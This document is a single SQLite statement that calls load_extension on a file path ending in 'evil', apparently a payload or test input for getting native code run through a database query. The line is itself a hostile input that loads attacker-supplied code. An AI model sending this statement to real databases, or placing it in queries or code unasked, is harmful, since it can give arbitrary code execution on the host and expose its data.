SELECT load_extension('/box/work/evil');
